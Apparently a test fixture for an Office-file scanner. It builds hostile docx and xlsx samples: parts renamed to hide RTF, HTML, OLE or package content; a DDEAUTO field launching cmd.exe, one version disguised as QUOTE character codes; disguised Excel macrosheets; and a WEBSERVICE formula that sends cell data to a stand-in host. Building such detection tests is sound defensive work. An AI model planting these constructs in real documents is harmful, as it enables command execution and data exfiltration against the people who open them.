import { aDocument, relating, withFields } from './a-document.js';
import type { HostileFile } from './hostile-files.js';

const letter =
  (more: Readonly<Record<string, string>>): (() => Buffer) =>
  () =>
    aDocument('docx', more);
const sheet =
  (more: Readonly<Record<string, string>>): (() => Buffer) =>
  () =>
    aDocument('xlsx', more);
const rels = 'word/_rels/document.xml.rels';

const typedParts = (name: string, type: string, main = ''): Readonly<Record<string, string>> => ({
  '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/${name}" ContentType="${type}"/></Types>`,
  [name]: main,
});
const typedSheet = (name: string, type: string, main = ''): Readonly<Record<string, string>> => ({
  '[Content_Types].xml': `<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/${name}" ContentType="${type}"/></Types>`,
  [name]: main,
});
/** Documents of office programs that hold under another name what is refused under its own. */
export const hostileRenamed: readonly HostileFile[] = [
  [
    'a letter with rich text under another name',
    'a.docx',
    letter(typedParts('word/c.dat', 'application/rtf')),
    'embedded',
  ],
  ['a letter with a page under another name', 'a.docx', letter(typedParts('word/c.dat', 'text/html')), 'embedded'],
  ['a letter that takes another text in', 'a.docx', letter({ [rels]: relating('aFChunk', 'c.dat', '') }), 'embedded'],
  [
    'a letter with an object under another name',
    'a.docx',
    letter({ [rels]: relating('oleObject', 'x.dat', '') }),
    'embedded',
  ],
  [
    'a letter with a document under another name',
    'a.docx',
    letter({ [rels]: relating('package', 'x.dat', '') }),
    'embedded',
  ],
  [
    'a letter with a field in a part of another name',
    'a.docx',
    letter(
      typedParts(
        'w/d.xml',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml',
        withFields('DDEAUTO c:\\\\cmd.exe'),
      ),
    ),
    'macros',
  ],
  [
    'a letter with a field made of numbers',
    'a.docx',
    letter({ 'word/document.xml': withFields(' QUOTE 68 68 69 65 85 84 79 ') }),
    'macros',
  ],
  [
    'a sheet of macros among the sheets',
    'a.xlsx',
    sheet(typedSheet('xl/worksheets/sheet2.xml', 'application/vnd.ms-excel.macrosheet+xml', '<x/>')),
    'macros',
  ],
  [
    'a sheet of macros that says it is another',
    'a.xlsx',
    sheet({ 'xl/worksheets/sheet2.xml': '<xm:macrosheet xmlns:xm="x"/>' }),
    'macros',
  ],
  [
    'a sheet that asks an address',
    'a.xlsx',
    sheet({ 'xl/worksheets/sheet1.xml': '<w><c><f>_xlfn.WEBSERVICE("http://x/"&amp;A1)</f></c></w>' }),
    'external_reference',
  ],
];
